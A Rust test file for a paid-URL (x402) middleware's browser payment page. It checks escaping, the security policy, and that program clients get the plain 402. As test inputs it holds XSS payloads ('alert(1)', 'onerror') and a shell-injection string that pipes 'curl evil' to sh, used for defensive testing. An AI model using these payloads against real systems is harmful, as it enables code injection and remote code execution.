//! The page that browsers get for a paid URL, and the unchanged 402 for all other clients. The tests in `tests/peers/browser_wallet` press
//! its button.

use alloy_primitives::Address;
use axum::body::Body;
use base64::{Engine, prelude::BASE64_STANDARD};
use http::{HeaderMap, Method, Request, Response, StatusCode, header, request};
use serde_json::Value;
use sha2::{Digest, Sha256};
use support::{
    chain::Chain,
    devnet::DevnetChain,
    shop::{Answer, App, Customer, PRICE, Shop, demand, send},
};
use tower_x402::{
    Network, Usdc,
    protocol::PaymentFlow,
    server::{BrowserPage, Quote, RequirePaymentLayerBuilder},
};

const CHROME: &str = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8";
const AGENT: &str =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36";

async fn open() -> (DevnetChain, Shop) {
    let chain = DevnetChain::start(None).await;
    let shop = Shop::open(&chain).await;
    (chain, shop)
}

/// The headers that a browser sends when a person opens a URL.
fn navigation(method: &str, uri: &str) -> request::Builder {
    let request = Request::builder().method(method).uri(uri).header("accept", CHROME).header("user-agent", AGENT);
    request.header("sec-fetch-mode", "navigate").header("upgrade-insecure-requests", "1")
}

async fn ask(app: &App, request: request::Builder) -> Answer {
    send(app, request.body(Body::empty()).unwrap()).await
}

async fn visit(shop: &Shop, layer: RequirePaymentLayerBuilder, uri: &str) -> Answer {
    let answer = ask(&shop.app(layer), navigation("GET", uri)).await;
    assert_eq!(answer.status, StatusCode::PAYMENT_REQUIRED);
    assert_eq!(answer.headers[header::CONTENT_TYPE], "text/html; charset=utf-8");
    answer
}

/// Returns the text between two marks, the first of which occurs once.
fn between<'a>(text: &'a str, start: &str, end: &str) -> &'a str {
    assert_eq!(text.matches(start).count(), 1, "{start} in {text}");
    text.split_once(start).unwrap().1.split_once(end).unwrap().0
}

/// Returns the offers that the script reads.
fn data(page: &str) -> Value {
    let text = between(page, "<script id=\"payment-required\" type=\"application/json\">", "</script>");
    serde_json::from_str(text).unwrap()
}

/// Returns the elements and attributes that a hostile text could have added.
fn tags(page: &str) -> Vec<&str> {
    let markup = page.split_once("</style>").unwrap().1.split_once("<script>").unwrap().0;
    markup.split('<').skip(1).map(|tag| tag.split_once('>').unwrap().0).collect()
}

#[tokio::test]
async fn a_browser_is_shown_the_offer_and_told_the_same_in_the_header() {
    let (_chain, shop) = open().await;
    let layer = shop.layer().public_origin("https://essays.example").service_name("Essays").description("On paying.");
    let answer = visit(&shop, layer, "/essay?page=2").await;
    let page = answer.text();
    assert_eq!(data(page), demand(&answer), "the script signs what the header offers");
    for shown in [
        "<h1>Essays</h1>".to_owned(),
        "On paying.".to_owned(),
        "https://essays.example/essay?page=2".to_owned(),
        "0.001 <small>USDC</small>".to_owned(),
        "on Base Sepolia, a test network".to_owned(),
        format!("<code>{}</code>", shop.pay_to),
        format!("<code>{}</code>", shop.asset.address),
        "for 120 seconds, once".to_owned(),
        "Confirm within 45 seconds".to_owned(),
        ">Pay 0.001 USDC</button>".to_owned(),
    ] {
        assert!(page.contains(&shown), "{shown} in {page}");
    }
    assert_eq!(shop.handled(), 0);
}

#[tokio::test]
async fn programs_are_answered_to_the_byte_as_without_a_page() {
    let (_chain, shop) = open().await;
    let (with, without) = (shop.app(shop.layer()), shop.app(shop.layer().browser_page(None)));
    let accept = |value: &'static str| vec![("accept", value)];
    let browser = |more: &[(&'static str, &'static str)]| {
        let mut headers = vec![("accept", CHROME), ("user-agent", AGENT)];
        headers.extend(more);
        headers
    };
    let programs = [
        ("GET", vec![]),
        ("GET", accept("*/*")),
        ("GET", vec![("accept", "*/*"), ("user-agent", AGENT)]),
        ("GET", vec![("accept", "application/json"), ("user-agent", AGENT)]),
        ("GET", vec![("accept", "application/json, text/plain, */*"), ("user-agent", AGENT)]),
        ("GET", vec![("accept", "application/json, text/html"), ("user-agent", AGENT)]),
        ("GET", vec![("accept", "text/html;q=0, */*"), ("user-agent", AGENT)]),
        // The default of Java's HTTP client.
        (
            "GET",
            vec![("accept", "text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2"), ("user-agent", "Java/17.0.2")],
        ),
        // A script in a page, even one that asks for HTML.
        ("GET", browser(&[("sec-fetch-mode", "cors"), ("origin", "https://app.example")])),
        ("GET", browser(&[("sec-fetch-mode", "same-origin")])),
        ("POST", browser(&[("sec-fetch-mode", "navigate")])),
        ("PUT", browser(&[])),
        ("DELETE", browser(&[])),
        ("OPTIONS", browser(&[])),
        ("HEAD", accept("*/*")),
    ];
    for (method, headers) in programs {
        let request = || {
            let request = Request::builder().method(method).uri("/evaluate?k=1");
            headers.iter().fold(request, |request, (name, value)| request.header(*name, *value))
        };
        let (one, other) = (ask(&with, request()).await, ask(&without, request()).await);
        assert_eq!(one.status, StatusCode::PAYMENT_REQUIRED);
        assert_eq!((&one.headers, &one.body), (&other.headers, &other.body), "{method} {headers:?}");
        assert_eq!(one.headers[header::CONTENT_TYPE], "application/json");
        assert!(!one.headers.contains_key(header::VARY));
    }
    let browser = ask(&without, navigation("GET", "/evaluate")).await;
    assert_eq!(browser.headers[header::CONTENT_TYPE], "application/json", "turned off, it is off for everybody");
}

#[tokio::test]
async fn browser_without_fetch_mode_gets_the_page() {
    let (_chain, shop) = open().await;
    let app = shop.app(shop.layer());
    let old = Request::get("/").header("accept", CHROME).header("user-agent", AGENT);
    assert_eq!(ask(&app, old).await.headers[header::CONTENT_TYPE], "text/html; charset=utf-8");
}

#[tokio::test]
async fn a_head_request_is_told_of_the_page() {
    let (_chain, shop) = open().await;
    let app = shop.app(shop.layer());
    let (head, get) = (ask(&app, navigation("HEAD", "/")).await, ask(&app, navigation("GET", "/")).await);
    assert_eq!((head.status, head.headers), (get.status, get.headers));
}

/// A script or program reads the answer to a payment, whatever its `Accept` says.
#[tokio::test]
async fn request_with_a_payment_never_gets_the_page() {
    let (chain, shop) = open().await;
    let app = shop.app(shop.layer());
    for payment in ["", "bm90IGEgcGF5bWVudA=="] {
        let answer = ask(&app, navigation("GET", "/").header("payment-signature", payment)).await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST);
        assert_eq!(answer.headers[header::CONTENT_TYPE], "application/json");
        assert!(!answer.headers.contains_key(header::CONTENT_SECURITY_POLICY));
    }
    let get = || navigation("GET", "/").body(Body::empty()).unwrap();
    let poor = Customer::with_funds(&chain, 0).await.pay(&app, get()).await;
    let refused = send(&app, poor.on(get())).await;
    assert_eq!(
        (refused.status, &refused.headers[header::CONTENT_TYPE]),
        (StatusCode::PAYMENT_REQUIRED, &"application/json".parse().unwrap())
    );
    let rich = Customer::with_funds(&chain, PRICE).await.pay(&app, get()).await;
    let paid = send(&app, rich.on(get())).await;
    assert_eq!((paid.status, chain.balance(shop.pay_to).await), (StatusCode::OK, PRICE));
    assert!(!paid.headers.contains_key(header::CONTENT_SECURITY_POLICY), "what is sold has its own policy");
}

#[tokio::test]
async fn only_its_own_script_runs_in_the_page() {
    let (_chain, shop) = open().await;
    let answer = visit(&shop, shop.layer(), "/").await;
    let headers: &HeaderMap = &answer.headers;
    let policy = headers[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
    let directives: Vec<&str> = policy.split(';').map(str::trim).collect();
    let page = answer.text();
    let hash = |text: &str| BASE64_STANDARD.encode(Sha256::digest(text));
    let script = format!("script-src 'sha256-{}'", hash(between(page, "<script>", "</script>")));
    let style = format!("style-src 'sha256-{}'", hash(between(page, "<style>", "</style>")));
    for directive in [
        "default-src 'none'",
        &script,
        &style,
        "connect-src 'self'",
        "frame-ancestors 'none'",
        "form-action 'none'",
        "base-uri 'none'",
    ] {
        assert!(directives.contains(&directive), "{directive} in {policy}");
    }
    assert!(!policy.contains("unsafe"), "{policy}");
    assert_eq!(headers[header::X_FRAME_OPTIONS], "DENY");
    assert_eq!(headers[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
    assert_eq!(headers[header::REFERRER_POLICY], "no-referrer");
    assert_eq!(headers[header::CACHE_CONTROL], "no-store");
    assert!(headers[header::VARY].to_str().unwrap().starts_with("Accept,"));
    for tag in tags(page) {
        let attributes: Vec<&str> = tag.split_whitespace().skip(1).collect();
        for attribute in attributes {
            let forbidden = ["on", "style=", "src=", "srcdoc=", "action="];
            assert!(!forbidden.iter().any(|start| attribute.to_lowercase().starts_with(start)), "{tag}");
        }
    }
}

/// The seller's texts, the path and the query are escaped, wherever they come from.
#[tokio::test]
async fn hostile_texts_are_escaped() {
    let (_chain, shop) = open().await;
    let calm = visit(&shop, shop.layer().description("x").service_name("x").tags(["x"]), "/x?x").await;
    let evil =
        "</script><script>alert(1)</script><!--<script>\"'><img src=x onerror=alert(1)>{{data}}</title></pre></style>";
    let token = support::changed(shop.asset.clone(), |asset| asset.name = evil.to_owned());
    let layers = [
        shop.layer().description(evil).service_name(evil).tags([evil]),
        shop.layer().description("x").browser_page(Some(BrowserPage::new().name(evil))),
        shop.layer().resource_url("https://a.example/\"/onload='alert(1)'?`{{data}}"),
    ];
    for layer in layers {
        let answer =
            visit(&shop, layer, "/a\"b'c/{{data}}\"/onload=alert(1)?q='`\\onload=alert(1)&lt;script&gt;{{data}}").await;
        let page = answer.text();
        assert_eq!(tags(page), tags(calm.text()), "no element and no attribute more");
        assert_eq!(page.matches("<script").count() - calm.text().matches("<script").count(), 0);
        assert_eq!(data(page), demand(&answer), "and the offer is what it is");
    }
    // A token's name is the seller's text, too. It is also in an attribute: the button's price.
    let way = RequirePaymentLayerBuilder::default().price("$0.001").facilitator(shop.facilitator.clone());
    let answer = visit(&shop, way.pay_to_in(token, shop.pay_to), "/x?x").await;
    assert_eq!(data(answer.text()), demand(&answer));
    assert!(answer.text().contains("<small>&lt;/script&gt;"));
    let names = |page: &str| tags(page).iter().map(|tag| tag.split(' ').next().unwrap().to_owned()).collect::<Vec<_>>();
    assert_eq!(names(answer.text()), names(calm.text()));
}

/// People paste the command into a shell.
#[tokio::test]
async fn shown_shell_command_cannot_be_injected() {
    let (_chain, shop) = open().await;
    let layer = shop.layer().public_origin("https://a.example");
    let answer = visit(&shop, layer, "/a';curl${IFS}evil|sh;'\"?q='`id`\\").await;
    let pre = between(answer.text(), "curl -i", "\n");
    let command = pre.replace("<span class=\"here\">", "").replace("</span>", "").replace("&#39;", "'");
    assert_eq!(command, " -X GET 'https://a.example/a%27;curl${IFS}evil|sh;%27%22?q=%27%60id%60%5c'");
}

#[tokio::test]
async fn every_offer_is_shown_as_it_is_signed() {
    let (_chain, shop) = open().await;
    let other = Address::repeat_byte(0x22);
    let layer =
        shop.layer().pay_to_in(shop.asset.clone(), other).flow(PaymentFlow::Upfront).flow(PaymentFlow::Authorization);
    let layer = layer.browser_page(Some(BrowserPage::new().methods([Method::GET, Method::POST])));
    let answer = visit(&shop, layer, "/").await;
    let (page, offers) = (answer.text(), data(answer.text()));
    let shown: Vec<&str> = page.split("<div class=\"offer\">").skip(1).collect();
    assert_eq!(shown.len(), 4);
    for (index, shown) in shown.iter().enumerate() {
        let offer = &offers["accepts"][index];
        let text = |name: &str| offer[name].as_str().unwrap();
        assert!(shown.contains(&format!("value=\"{index}\"")));
        assert!(shown.contains(&format!("<dt>Paid to</dt><dd><code>{}</code>", text("payTo"))));
        assert!(shown.contains(&format!("<dt>Token</dt><dd><code>{}</code>", text("asset"))));
        let amount = Usdc::from_atomic(text("amount").parse().unwrap());
        assert!(shown.contains(&format!("data-price=\"{} USDC\"", amount.to_string().trim_start_matches('$'))));
        let is_upfront = offer["extra"]["paymentFlow"] == "upfront";
        assert_eq!(shown.contains("Before the work"), is_upfront);
        assert_eq!(shown.contains(" checked"), index == 0, "the preferred one");
        assert!(!shown.contains(" disabled"));
    }
}

#[tokio::test]
async fn computed_price_is_shown_for_its_request() {
    let (_chain, shop) = open().await;
    let price = |request: &request::Parts| {
        let units = request.uri.query().map_or(0, |query| query.parse().unwrap());
        async move { Ok(Quote::Amount(Usdc::from_atomic(units))) }
    };
    for (units, shown) in
        [(1, "Pay 0.000001 USDC"), (1_500_000, "Pay 1.50 USDC"), (u64::MAX, "Pay 18446744073709.551615 USDC")]
    {
        let answer = visit(&shop, shop.layer().price_with(price), &format!("/?{units}")).await;
        assert!(answer.text().contains(shown));
        assert_eq!(data(answer.text())["accepts"][0]["amount"], units.to_string());
    }
    let layer = shop.layer().price_with(price).build().unwrap();
    let inner = tower::service_fn(async |_| Ok::<_, std::convert::Infallible>(Response::new(Body::from("free"))));
    let app = support::shop::app(tower::Layer::layer(&layer, inner));
    let free = ask(&app, navigation("GET", "/")).await;
    assert_eq!((free.status, free.text()), (StatusCode::OK, "free"), "what is free is not sold by a page");
}

/// The layer does not know which methods the service answers; `BrowserPage::methods` sets them.
#[tokio::test]
async fn page_has_no_button_where_a_browser_would_pay_for_nothing() {
    let (_chain, shop) = open().await;
    let sells = |methods: &[Method]| Some(BrowserPage::new().methods(methods.to_vec()));
    let cases = [
        (shop.layer(), true, "authorization costs nothing if the answer is 405"),
        (shop.layer().flow(PaymentFlow::Upfront), false, "upfront would"),
        (shop.layer().flow(PaymentFlow::Upfront).browser_page(sells(&[Method::GET])), true, "unless GET is answered"),
        (shop.layer().browser_page(sells(&[Method::POST])), false, "what is sold is a POST"),
        (shop.layer().browser_page(sells(&[])), false, "nothing is sold"),
    ];
    for (layer, has_button, why) in cases {
        let answer = visit(&shop, layer, "/evaluate").await;
        let page = answer.text();
        assert_eq!(page.contains("<button id=\"pay\""), has_button, "{why}");
        assert_eq!(page.contains(" checked"), has_button, "{why}");
        assert_eq!(page.contains("id=\"no-button\""), !has_button, "{why}");
    }
    let posts = visit(&shop, shop.layer().browser_page(sells(&[Method::POST])), "/evaluate").await;
    assert!(posts.text().contains("answers POST only") && posts.text().contains("curl -i -X POST"));
    // Where one of two flows can be paid, that one is chosen.
    let both = shop.layer().flow(PaymentFlow::Upfront).flow(PaymentFlow::Authorization);
    let both = visit(&shop, both, "/evaluate").await;
    assert!(both.text().contains("value=\"0\" disabled") && both.text().contains("value=\"1\" checked"));
}

#[tokio::test]
async fn page_is_complete_without_a_script() {
    let (_chain, shop) = open().await;
    let answer = visit(&shop, shop.layer(), "/").await;
    let page = answer.text();
    assert!(!page.contains("{{"), "every slot is filled");
    for tag in tags(page).iter().filter(|tag| tag.starts_with("button")) {
        assert!(tag.ends_with(" hidden"), "a button that does nothing is not shown: {tag}");
    }
    assert!(page.contains("<noscript>") && page.contains("<html lang=\"en\">") && page.contains("name=\"viewport\""));
}

#[tokio::test]
async fn other_chains_and_tokens_are_shown_by_name() {
    let chain = DevnetChain::start(None).await;
    let shop = Shop::open(&chain).await;
    let own = support::changed(shop.asset.clone(), |asset| {
        asset.address = Address::repeat_byte(0x33);
        asset.name = "Play Money".into();
    });
    let layer = RequirePaymentLayerBuilder::default().price("$2").facilitator(shop.facilitator.clone());
    let answer = visit(&shop, layer.pay_to_in(own, shop.pay_to), "/").await;
    assert!(answer.text().contains("2.00 <small>Play Money</small>"));
    assert_eq!(shop.asset.network, Network::BASE_SEPOLIA);
}
